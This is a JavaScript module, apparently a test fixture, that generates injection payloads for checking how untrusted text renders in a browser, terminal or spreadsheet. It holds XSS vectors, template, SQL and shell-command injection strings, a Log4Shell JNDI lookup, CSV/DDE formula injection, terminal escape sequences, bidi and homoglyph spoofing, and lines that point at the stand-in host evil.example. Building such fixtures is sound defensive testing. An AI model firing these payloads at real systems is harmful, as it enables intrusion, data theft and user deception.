// What an intruder may type who knows that somebody will look at it in a browser, a terminal or a
// spreadsheet. `__hit()` is what each of them wants to call.

const hit = "__hit()";

const elements = [
  `<script>${hit}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="/api/v1/incidents"></script>`,
  `</script><script>${hit}</script>`,
  `<ScRiPt>${hit}</sCrIpT>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<script\n>${hit}</script\n>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><script xlink:href="data:,${hit}"/></svg>`,
  `<math><mtext><script>${hit}</script></mtext></math>`,
  `<template><script>${hit}</script></template>`,
  `<noscript><p title="</noscript><script>${hit}</script>">`,
  `<title><script>${hit}</script></title>`,
  `<textarea><script>${hit}</script></textarea>`,
  `</textarea><script>${hit}</script>`,
  `</title><script>${hit}</script>`,
  `</style><script>${hit}</script>`,
  `--><script>${hit}</script>`,
  `<!--<script>${hit}</script>-->`,
  `<![CDATA[<script>${hit}</script>]]>`,
  `<?xml version="1.0"?><script>${hit}</script>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="data:text/html,<script>${hit}</script>">`,
  `<form action="https://evil.example/"><button>Log in again</button></form>`,
  `<dialog open><h1>Session expired</h1></dialog>`,
  `<plaintext>`,
  `<xmp>`,
  `<b>bold</b><i>italic`,
  `</div></div></div></main>`,
  `</td></tr></table>`,
];

const events = [
  "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle",
  "onpointerenter", "onwheel", "onscroll", "oncopy", "onbegin", "ontransitionend", "onsearch",
  "onbeforetoggle", "onsecuritypolicyviolation", "onresize",
];
const carriers = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x"];
const attributes = events.map(
  (event, index) => `<${carriers[index % carriers.length]} ${event}=${hit}>`,
);

const breakouts = ['"', "'", "`", '">', "'>", "`>", '" ', "' ", "/>", "\\\"", "\\'", "&quot;"].map(
  (quote) => `${quote}onfocus=${hit} autofocus tabindex=1 x=${quote}`,
);

const urls = [
  "javascript:__hit()", "JaVaScRiPt:__hit()", "java\nscript:__hit()", "java\tscript:__hit()",
  "\u0001javascript:__hit()", " javascript:__hit()", "javascript&colon;__hit()",
  "javascript://example.net/%0a__hit()", "data:text/html,<script>__hit()</script>",
  "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=__hit()>",
  "vbscript:msgbox(1)", "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example/x",
  "https://evil.example/", "https://127.0.0.1@evil.example/", "\\\\evil.example\\share", "../../../etc/passwd",
  "/settings", "/api/v1/session", "#/link", "?view=matrix", "%2e%2e%2f", "%00", "view-source:x",
];

const templates = [
  "{{constructor.constructor('__hit()')()}}", "${__hit()}", "#{__hit()}", "<%= __hit() %>", "{%raw%}",
  "{{7*7}}", "${7*7}", "@(__hit())", "[[__hit()]]", "ng-init=__hit()", "v-html=__hit()",
  "$$typeof", '{"$$typeof":"react.element","type":"script"}', "dangerouslySetInnerHTML", "__proto__",
  "constructor", "prototype", "toString", "hasOwnProperty", "[object Object]", "undefined", "null",
  "NaN", "true", "0", "-1", "1e999", "%s %d %n %x", "%c", "',(select 1)--", "' OR 1=1 --",
  "${jndi:ldap://evil.example/a}", "() { :;}; echo hit", "`id`", "$(id)", "| id", "; id", "&& id",
];

const sheets = [
  "expression(__hit())", "url(javascript:__hit())", "};*{background:url(https://evil.example/)}",
  "-moz-binding:url(x)", "color:red;position:fixed;inset:0", "@import 'x';", "var(--bad)", "/*", "*/",
  "x{}</style>",
];

const bidi = [
  "\u202Eexe.fdp", "\u202Dabc", "\u202Aabc", "\u202Babc", "abc\u202C", "\u2066abc", "\u2067abc\u2069",
  "\u2068abc", "\u200Fabc\u200E", "\u061Cabc", "שלום עולם", "مرحبا بالعالم", "abc שלום 123",
  "a\u200Bb\u200Cc\u200Dd", "\uFEFFabc", "soft\u00ADhyphen", "\u2060abc", "\u180Eabc", "аdmin", "ｒｏｏｔ",
  "Z\u0351\u036B\u0343\u036A\u0302a\u034D\u0321l\u0358g\u0328\u0334o\u0322".repeat(4), "\u0301\u0302\u0303",
  "👩‍💻🏴‍☠️", "\u{E0041}\u{E0042}", "﷽", "𝕣𝕠𝕠𝕥", "\u3164", "\u115F\u1160", "line\u2028separator", "para\u2029graph",
];

const controls = [
  "\u0000", "a\u0000b", "\u0007", "\b\b\b\b", "\u001B[2J", "\u001B[31mred\u001B[0m",
  "\u001B]0;title\u0007", "\u001B]8;;https://evil.example/\u001B\\link\u001B]8;;\u001B\\", "\u001BP+q\u001B\\",
  "\u009B31m", "a\rb", "a\nb\nc", "a\tb", "\u007F", "\u0085", "\\u0000", "\\x1b[2J", "\r\nSet-Cookie: a=b",
  "\uFFFE", "\uFFFD", "\uD800", "a\uDFFFb",
];

const sheetsOfOffice = [
  "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/\",\"x\")", "+1+1", "-1+1", "@SUM(1)",
  "\t=1+1", "=IMPORTXML(\"https://evil.example/\",\"//a\")", "a,b\",c", "a;b", "DDE(\"cmd\")",
];

const odd = [
  "a".repeat(3_000), "W".repeat(200), "word ".repeat(300), "<b>".repeat(400), "\u202E".repeat(50),
  " ", "   leading", "trailing   ", "\u00A0", "-".repeat(300), "/".repeat(300), "\n".repeat(40),
  "👾".repeat(200), "<img src=x onerror=__hit()>".repeat(40), "&lt;script&gt;", "&#60;script&#62;",
  "&amp;amp;", "&#x202E;", "&nbsp;", "&",
];

/** All of them; no two are the same. */
export function payloads() {
  const all = [
    elements, attributes, breakouts, urls, templates, sheets, bidi, controls, sheetsOfOffice, odd,
  ].flat();
  return [...new Set(all)];
}
